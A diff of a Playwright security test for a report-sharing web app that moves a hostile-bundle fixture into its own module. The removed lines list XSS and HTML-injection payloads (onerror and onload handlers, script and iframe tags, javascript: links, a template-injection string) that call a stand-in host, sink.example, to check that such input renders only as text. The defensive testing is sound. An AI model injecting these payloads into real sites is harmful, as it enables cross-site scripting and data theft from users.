@@ -2,11 +2,10 @@
 // that an attacker made: it is text, and nothing leaves the page.
 import { expect, type Page } from '@playwright/test';
 import { encodeBundle } from '#core/share/bundle-bytes.ts';
-import type { Bundle } from '#core/share/bundle.ts';
-import { minimiseEdition } from '#core/share/minimise-edition.ts';
 import { wholeLink } from '#core/share/whole-link.ts';
-import { chart, hashes, madeEdition, shownOf, tableOf } from '../unit/made-edition.ts';
+import { madeEdition } from '../unit/made-edition.ts';
 import { expectClean } from './clean.ts';
+import { hostileBundle, payload } from './hostile-bundle.ts';
 import { openWorkspace, patient, test, type WithWeir } from './workspace.ts';
 
 test.use({ actionTimeout: 20_000 });
@@ -84,76 +83,6 @@ test('a report is shared, read elsewhere with its passphrase, and gone when it i
 	await patient(reader.getByRole('alert')).toContainText('There is nothing to open here');
 });
 
-/** Each would ask this address for something, were it ever read as markup. */
-const SINK = 'https://sink.example';
-const payload = [
-	`<img src="${SINK}/1" onerror="fetch('${SINK}/2')">`,
-	`<script>location='${SINK}/3'</script>`,
-	`<svg onload="fetch('${SINK}/4')"><image href="${SINK}/5"/></svg>`,
-	`<iframe src="${SINK}/6"></iframe>`,
-	`<object data="${SINK}/7"></object>`,
-	`<embed src="${SINK}/8">`,
-	`<video src="${SINK}/9" autoplay></video>`,
-	`<audio src="${SINK}/10"></audio>`,
-	`<link rel="stylesheet" href="${SINK}/11">`,
-	`<link rel="prefetch" href="${SINK}/12">`,
-	`<style>@import "${SINK}/13"; body { background: url(${SINK}/14) }</style>`,
-	`<meta http-equiv="refresh" content="0;url=${SINK}/15">`,
-	`<base href="${SINK}/">`,
-	`<form action="${SINK}/16"><input autofocus onfocus="this.form.submit()"></form>`,
-	`<details open ontoggle="fetch('${SINK}/17')">`,
-	`<a href="javascript:fetch('${SINK}/18')" ping="${SINK}">x</a>`,
-	`![x](${SINK}/19) [x](javascript:alert(1))`,
-	`\u202e"'\`}{{constructor.constructor('fetch("${SINK}")')()}}`
-];
-
-function hostile(): Bundle {
-	const all = payload.join('\n');
-	const cells = [...payload];
-	const [source] = minimiseEdition(madeEdition, () => hashes).sources;
-	const named = { title: all, subtitle: all, caption: all, xLabel: all, yLabel: all, unit: '<b>' };
-	const edition = {
-		...madeEdition,
-		title: all,
-		description: all,
-		blocks: [
-			...payload.map((text) => ({
-				block: {
-					kind: 'prose' as const,
-					node: { kind: 'paragraph' as const, children: [{ kind: 'text' as const, text }] },
-					values: [],
-					place: chart.place
-				},
-				values: []
-			})),
-			{
-				block: {
-					kind: 'table' as const,
-					...{ from: '', columns: [{ column: all, label: all, format: null }], order: [], limit: 100 },
-					...{ title: all, span: 12 as const, place: chart.place }
-				},
-				shown: shownOf(tableOf({ name: all, type: 'text', values: cells }), [])
-			},
-			{
-				block: {
-					...chart,
-					...named,
-					type: 'bar' as const,
-					annotations: [{ ...chart.annotations[0], text: all } as never]
-				},
-				shown: shownOf(
-					tableOf(
-						{ name: 'x', type: 'text', values: cells },
-						{ name: 'y', type: 'number', values: cells.map((_, at) => at) }
-					),
-					[]
-				)
-			}
-		]
-	};
-	return { ...minimiseEdition(edition, () => hashes), sources: source ? [{ ...source, name: all }] : [] };
-}
-
 test('a bundle that an attacker made is text: nothing leaves the page, and it stays where it is', async ({
 	virgin: reader
 }) => {
@@ -163,7 +92,7 @@ test('a bundle that an attacker made is text: nothing leaves the page, and it st
 		errors.push(dialog.message());
 		void dialog.dismiss();
 	});
-	await reader.goto(wholeLink(encodeBundle(hostile())));
+	await reader.goto(wholeLink(encodeBundle(hostileBundle())));
 	await patient(reader.getByText(payload[0] ?? '', { exact: false }).first()).toBeVisible();
 	await reader.getByText('Where the numbers come from').click();
 	await reader.waitForTimeout(500);
